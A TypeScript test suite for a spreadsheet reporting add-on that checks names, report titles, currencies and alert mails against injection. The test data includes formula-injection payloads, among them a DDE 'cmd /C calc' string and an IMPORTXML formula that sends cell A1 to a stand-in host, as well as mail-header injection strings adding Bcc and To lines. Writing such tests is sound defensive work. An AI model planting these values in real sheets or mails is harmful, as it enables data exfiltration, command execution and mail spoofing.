import fc from 'fast-check';
import type { ReportDefinition } from '../../src/contract/report-definition';
import { displayName } from '../../src/domain/names';
import { lapseMail, newsMail, type Origin, otherKeyMail } from '../../src/schedules/alert';
import type { Trouble } from '../../src/schedules/trouble';
import type { Workbench } from '../../workbench/workbench';
import { anna, ask, ben, closeBenches, connected, newReport, select } from '../support/bench';
import { sampled } from '../support/breadth';
import { enter } from '../support/spreadsheet';

afterEach(closeBenches);

const hour = 3_600_000;
const sheet = '0';

/** What spreadsheets and what reads their exports take for a formula, a number, or something else than text. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '=IMPORTXML("https://example.org/?"&A1,"//a")',
  '=HYPERLINK("https://example.org";"Click")',
  '=IMAGE("https://example.org/i.png")',
  '=JB_PARTNERS()',
  `=cmd|' /C calc'!A0`,
  '{=1+1}',
  '1/2',
  '10%',
  '1e3',
  '007',
  'TRUE',
  'WAHR',
  '2026-01-01',
  '#REF!',
  '__proto__',
] as const;

/** A spreadsheet of Anna's, whose Journeybee has just these partners, with labels of the same kind. */
async function withNames(names: readonly string[], options = {}): Promise<Workbench> {
  const made = await connected('owner', options);
  const { data } = made.sandbox;
  data.partners.splice(names.length);
  data.partners.forEach((partner, index) => {
    const label = (kind: number) => ({ uuid: `${kind}0000000-0000-4000-8000-${String(index).padStart(12, '0')}` });
    const name = names[index] ?? '';
    Object.assign(partner, {
      name,
      tier: { ...label(1), label: name },
      category: { ...label(2), label: name },
      stage: { ...label(3), label: name },
    });
  });
  made.sandbox.settings.includeInactive = true;
  return made;
}

/** Cells of every sheet that hold a formula. */
function formulas({ file: { workbook } }: Workbench): string[] {
  return workbook.sheets().flatMap(({ id, name }) => {
    const { lastRow: rows, lastColumn: columns } = workbook.extent(id);
    if (rows === 0) return [];
    const cells = workbook.read(id, { row: 1, column: 1, rows, columns }).flat();
    return cells.flatMap(({ formula }) => (formula === '' ? [] : `${name}: ${formula}`));
  });
}

/** All texts that stand in a column under a heading, on any sheet. */
function under(heading: string, { file: { workbook } }: Workbench): unknown[] {
  return workbook.sheets().flatMap(({ id }) => {
    const { lastRow: rows, lastColumn: columns } = workbook.extent(id);
    const lines = rows === 0 ? [] : workbook.read(id, { row: 1, column: 1, rows, columns });
    const row = lines.findIndex((line) => line.some(({ value }) => value === heading));
    const column = lines[row]?.findIndex(({ value }) => value === heading) ?? -1;
    return column < 0 ? [] : lines.slice(row + 1).map((line) => line[column]?.value);
  });
}

const everything: Partial<ReportDefinition> = {
  rows: 100,
  columns: ['rank', 'name', 'revenue', 'tier', 'category', 'stage', 'type', 'uuid'],
  totals: true,
  movement: 'previous day',
  comparison: 'full',
  chart: true,
  history: 'refresh',
};

describe.each(['en_US', 'de_DE'] as const)('names and labels that look like formulas, in %s', (locale) => {
  test('are text in a report, its totals, its title and its history, sign for sign', async () => {
    const made = await withNames(hostile, { locale });
    select(made, sheet, 'A1');
    await ask(
      made,
      'saveReport',
      newReport({ period: 'last_year', type: null, limit: 100, where: 'cell' }, everything),
    );
    await made.clock.advance(25 * hour);
    await ask(made, 'refresh', { id: null, withMyKey: false });
    expect(formulas(made)).toEqual([]);
    for (const heading of ['Partner', 'Tier', 'Category', 'Stage']) {
      expect(new Set(under(heading, made).filter((value) => value !== ''))).toEqual(
        new Set([...hostile.map(displayName), ...totalsIn(heading, made)]),
      );
    }
  });

  test('are text where they drop out of a report, and are named in its title', async () => {
    const made = await withNames(['=1+1', '+2+2', 'Aurora'], { locale });
    select(made, sheet, 'A1');
    const wanted = newReport(
      { period: 'last_year', type: null, limit: 100, where: 'cell' },
      { ...everything, rows: 2 },
    );
    await ask(made, 'saveReport', wanted);
    await made.clock.advance(25 * hour);
    const { data } = made.sandbox;
    const last = data.partners.find(({ name }) => !under('Partner', made).includes(name));
    data.addDeal({
      partnerUuid: last?.uuid ?? '',
      value: 9e8,
      createdDay: '2025-02-03',
      status: 'won',
      closedDay: '2025-02-04',
    });
    await ask(made, 'refresh', { id: null, withMyKey: false });
    const [[title] = []] = made.file.workbook.read(sheet, { row: 1, column: 1, rows: 1, columns: 1 });
    expect(title?.value).toContain('dropped out since');
    expect(formulas(made)).toEqual([]);
  });

  test('are values where a formula gives them, and nothing calculates', async () => {
    const made = await withNames(hostile, { locale });
    const { rows } = await enter(made, '=JB_PARTNERS("last_year";"";100;"columns=name,tier,category,stage")');
    expect(new Set(rows.slice(1).map(([name]) => name))).toEqual(new Set(hostile.map(displayName)));
    expect(formulas(made)).toHaveLength(1);
  });

  test('are text as the name of a report: in the list, the sheets, the chart, and the range', async () => {
    const made = await withNames(['Aurora'], { locale });
    // Sheets has no names of sheets with these signs, and refuses them itself.
    const names = sampled(
      hostile.filter((name) => !/[\t\r\n]/.test(name)),
      4,
    );
    for (const name of names) {
      const wanted = newReport({ period: 'last_year', type: null, limit: 2, where: 'cell' }, { ...everything, name });
      made.file.workbook.insertSheet();
      await ask(made, 'saveReport', wanted);
    }
    expect(formulas(made)).toEqual([]);
    const { reports } = await ask(made, 'overview', undefined);
    expect(reports.map(({ name }) => name)).toEqual(names);
    expect(reports.map(({ definition }) => definition?.name)).toEqual(names);
    const { workbook } = made.file;
    const titles = workbook.sheets().flatMap(({ id }) => workbook.chartsOn(id).map(({ options }) => options.title));
    expect(new Set(titles)).toEqual(new Set(names));
    expect(workbook.namedRanges().filter((range) => !/^JB_[A-Za-z0-9_]*$/.test(range.name))).toEqual([]);
  });
});

/** The first columns of a block have words of the report's own in their totals. */
function totalsIn(heading: string, made: Workbench): unknown[] {
  return under(heading, made).filter((value) => typeof value === 'string' && value.startsWith('Total'));
}

test('any name at all is the same text in the sheet', async () => {
  const made = await withNames(['a', 'b', 'c']);
  select(made, sheet, 'A1');
  const { data } = made.sandbox;
  await ask(made, 'saveReport', newReport({ period: 'last_year', type: null, limit: 3, where: 'cell' }));
  const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", '＝', '\u0000', '"', '{', '<', '&');
  const name = fc
    .tuple(start, fc.string({ unit: 'grapheme', maxLength: 30 }))
    .map((parts) => parts.join(''))
    .filter((text) => displayName(text) !== '');
  await fc.assert(
    fc.asyncProperty(fc.tuple(name, name, name), async (names) => {
      data.partners.forEach((partner, index) => {
        partner.name = names[index] ?? '';
      });
      await ask(made, 'refresh', { id: null, withMyKey: false });
      expect(formulas(made)).toEqual([]);
      expect(under('Partner', made).sort()).toEqual(names.map(displayName).sort());
    }),
    { numRuns: 40 },
  );
});

test('the formula that the sidebar inserts has nothing in it but what its lists offer', async () => {
  const made = await connected();
  select(made, sheet, 'A1');
  const odd = ['2026-01-01")&IMPORTXML("', '2026-01-01\n', '', '2026-1-1', '__proto__'];
  for (const startDate of odd) {
    const period = { startDate, endDate: '2026-12-31' };
    await expect(ask(made, 'insertFormula', { period, type: null, limit: 3, currency: null })).rejects.toThrow(
      'Choose',
    );
  }
  const other = { period: 'last_year', limit: 3, currency: '"@"#REF!' } as const;
  await ask(made, 'insertFormula', { ...other, type: null });
  expect(formulas(made)).toEqual(['Sheet1: =JB_PARTNERS("last_year";"";3)']);
});

test('a currency that no currency is called gives amounts the usual two decimals', async () => {
  for (const currency of ['constructor', '__proto__', 'toString', '"]@#,##0', '=1']) {
    const made = await connected();
    made.sandbox.settings.currency = 'EUR';
    select(made, sheet, 'A1');
    await ask(made, 'insertFormula', { period: 'last_year', type: null, limit: 3, currency });
    const [[cell] = []] = made.file.workbook.read(sheet, { row: 2, column: 3, rows: 1, columns: 1 });
    expect([currency, cell?.numberFormat]).toEqual([currency, '#,##0.00']);
    await closeBenches();
  }
});

describe('a mail', () => {
  const lines = [
    'A\r\nBcc: everybody@example.org',
    'A\nB',
    'A\rB',
    'A\u2028B',
    'A\u0085B',
    'A\u0000B',
    'A\u202eB',
    'A\tB',
  ];
  const trouble: Trouble = {
    failures: 1,
    since: 0,
    lastAt: 0,
    problem: 'It failed.',
    paused: null,
    mailedAt: null,
    pauseMailed: false,
    mendedBy: 'journeybee' as const,
  };
  const origin: Origin = { spreadsheet: 'Book', url: null, timeZone: 'UTC', offsetAt: () => 0 };
  // Whatever breaks a line, ends a text or turns it around.
  const breaking = /[\p{Cc}\u2028-\u202e\u2066-\u2069]/u;

  test.each(lines)('has one line of subject, and no line of its text is somebody’s name: %j', (name) => {
    const place = { ...origin, spreadsheet: name };
    const failing = { name, trouble: { ...trouble, problem: name }, refreshedAt: 0 };
    const mails = [
      newsMail({ failing: [failing], recovered: [] }, place),
      newsMail({ failing: [], recovered: [name] }, place),
      newsMail({ failing: [], recovered: [name, name] }, place),
      otherKeyMail([{ name, by: name }], place),
      lapseMail(null, 0, place),
    ];
    const plain = [
      newsMail({ failing: [{ ...failing, name: 'A', trouble }], recovered: [] }, origin),
      newsMail({ failing: [], recovered: ['A'] }, origin),
      newsMail({ failing: [], recovered: ['A', 'B'] }, origin),
      otherKeyMail([{ name: 'A', by: 'B' }], origin),
      lapseMail(null, 0, origin),
    ];
    expect(mails.filter(({ subject }) => breaking.test(subject))).toEqual([]);
    expect(mails.filter(({ body }) => breaking.test(body.replaceAll('\n', '')))).toEqual([]);
    const count = ({ body }: { body: string }) => body.split('\n').length;
    expect(mails.map(count)).toEqual(plain.map(count));
  });

  test('goes to its owner’s own address alone, whatever an editor calls a report', async () => {
    const made = await connected();
    select(made, sheet, 'A1');
    const name = `x\r\nTo: ${ben}\r\n\r\nhello`;
    const wanted = newReport(
      { period: 'last_year', type: null, limit: 2, where: 'cell' },
      { name, schedule: { kind: 'hourly' } },
    );
    await ask(made, 'saveReport', wanted);
    made.sandbox.faults.always({ kind: 'status', status: 500, message: `\r\nBcc: ${ben}\r\n` });
    await made.google.advance(2 * hour);
    expect(made.google.mails.map(({ to, subject }) => [to, subject])).toEqual([
      [anna, `Journeybee: x To: ${ben} hello was not refreshed`],
    ]);
  });
});
